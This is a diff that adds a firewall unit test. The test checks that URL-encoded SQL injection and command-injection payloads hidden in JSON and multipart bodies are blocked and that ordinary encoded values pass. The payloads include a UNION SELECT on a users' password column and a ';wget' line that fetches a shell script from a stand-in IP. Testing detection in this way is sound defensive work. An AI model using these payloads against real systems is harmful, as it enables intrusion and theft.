@@ -228,3 +228,39 @@ test('payloads in path segments, custom X- headers and Base64 values are inspect
   ok.headers.push(['X-Api-Version', '2'], ['X-Request-Id', 'b7f1c9d2'])
   assert.equal(evaluateRequest(waf, ok).action, 'allow')
 })
+
+test('URL-encoded payloads inside JSON values and multipart fields are inspected decoded', { skip }, () => {
+  const waf = createWaf(crsRuleSet(CRS_RULES_DIR, DEFAULT_WAF_SETTINGS, createFsSource()))
+  const sqli = encodeURIComponent("1' UNION SELECT password FROM users--")
+  const shell = encodeURIComponent(';wget http://203.0.113.9/sh311.sh')
+  const multipart = (value: string): string =>
+    `------b1\r\nContent-Disposition: form-data; name="q"\r\n\r\n${value}\r\n------b1--\r\n`
+  const attacks = [
+    req('POST', '/api/search', 'application/json', JSON.stringify({ q: sqli })),
+    req('POST', '/api/run', 'application/json', JSON.stringify({ cmd: shell })),
+    req('POST', '/upload', 'multipart/form-data; boundary=----b1', multipart(sqli)),
+    req('POST', '/upload', 'multipart/form-data; boundary=----b1', multipart(shell)),
+  ]
+  for (const r of attacks)
+    assert.equal(evaluateRequest(waf, r).action, 'block', new TextDecoder().decode(r.body))
+  // What APIs send URL-encoded in JSON: return URLs, encoded names and paths.
+  const benign = [
+    req(
+      'POST',
+      '/api/login',
+      'application/json',
+      JSON.stringify({
+        returnTo: 'https%3A%2F%2Fapp.example.com%2Forders%3Fpage%3D2',
+        name: 'Caf%C3%A9 Blue',
+      }),
+    ),
+    req(
+      'POST',
+      '/upload',
+      'multipart/form-data; boundary=----b1',
+      multipart('reports%2F2026%2Fq4%20summary.pdf'),
+    ),
+  ]
+  for (const r of benign)
+    assert.equal(evaluateRequest(waf, r).action, 'allow', new TextDecoder().decode(r.body))
+})
